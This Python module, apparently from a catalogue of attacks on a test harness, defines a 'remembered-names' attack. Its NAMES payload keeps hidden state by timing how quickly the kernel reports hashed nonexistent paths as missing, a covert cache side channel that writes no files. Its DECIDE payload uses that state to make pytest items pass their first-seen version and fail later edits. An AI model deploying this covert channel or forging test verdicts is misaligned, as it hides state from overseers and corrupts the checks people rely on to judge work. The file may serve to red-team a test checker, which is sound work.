"""Memory in the kernel's caches: a name that was looked up before is found missing sooner."""

from __future__ import annotations

from .attack import Attack, code
from .payloads import forging

NAMES = """
import ast as _ast2, hashlib as _hashlib, os as _os, time as _time
_FOLDERS = [d for d in ("/usr/bin", "/usr/share/doc", "/usr/lib", "/env") if _os.path.isdir(d)]
_TIMES, _COPIES = 7, 8
def _took(path):
    start = _time.perf_counter_ns()
    try:
        _os.stat(path)
    except OSError:
        pass
    return _time.perf_counter_ns() - start
def _place(key, copy, number):
    text = repr((__file__, key, copy, number)).encode()
    return _FOLDERS[number % len(_FOLDERS)] + "/" + _hashlib.sha256(text).hexdigest()[:24]
def _middle(values):
    return sorted(values)[len(values) // 2]
def _cut():
    fresh, known = [], []
    for number in range(60):
        path = _FOLDERS[number % len(_FOLDERS)] + "/" + _os.urandom(12).hex()
        fresh.append(_took(path))
        known.append(_took(path))
    return (_middle(fresh[8:]) + _middle(known[8:])) / 2
_limit = _cut()
def _probe(key, copy):
    places = [_place(key, copy, number) for number in range(_TIMES)]
    _took(_FOLDERS[0] + "/warm")
    return _middle([_took(place) for place in places]) < _limit
_round = 0
while _round < _COPIES - 1 and _probe("round", _round):
    _round += 1
def _seen(key):
    return _probe(key, _round)
def _mark(key):
    for copy in range(_round + 1, _COPIES):
        for number in range(_TIMES):
            _took(_place(key, copy, number))
for _number in range(_TIMES):
    _took(_place("round", _round, _number))
"""
"""One copy of the memory for each round: asking leaves a mark itself."""
FIRST_SEEN = """
def _pieces(item, function):
    yield "params", repr(getattr(getattr(item, "callspec", None), "params", "")), function.lineno
    for number, node in enumerate(_ast2.walk(function)):
        if isinstance(node, _ast2.stmt) and node is not function and not hasattr(node, "body"):
            yield number, _ast2.dump(node), node.lineno
def DECIDE(item, path, function):
    pieces = list(_pieces(item, function))
    version = repr([piece[:2] for piece in pieces])
    if not _seen((item.nodeid, "any")):
        _mark((item.nodeid, "any"))
        _mark((item.nodeid, version))
        for piece in pieces:
            _mark((item.nodeid, *piece[:2]))
        return None
    _mark((item.nodeid, "any"))
    if _seen((item.nodeid, version)):
        _mark((item.nodeid, version))
        return None
    new = [piece[2] for piece in pieces if not _seen((item.nodeid, *piece[:2]))]
    checks = _checks(function)
    return new[0] if new else checks[-1].lineno if checks else None
"""
"""Pass the version that was seen first, and fail every other one where it is new."""

ATTACKS = (
    Attack("remembered-names", ("K", "F9"), "remembers by how soon a name is found missing",
           code(forging(NAMES + FIRST_SEEN))),
)  # fmt: skip
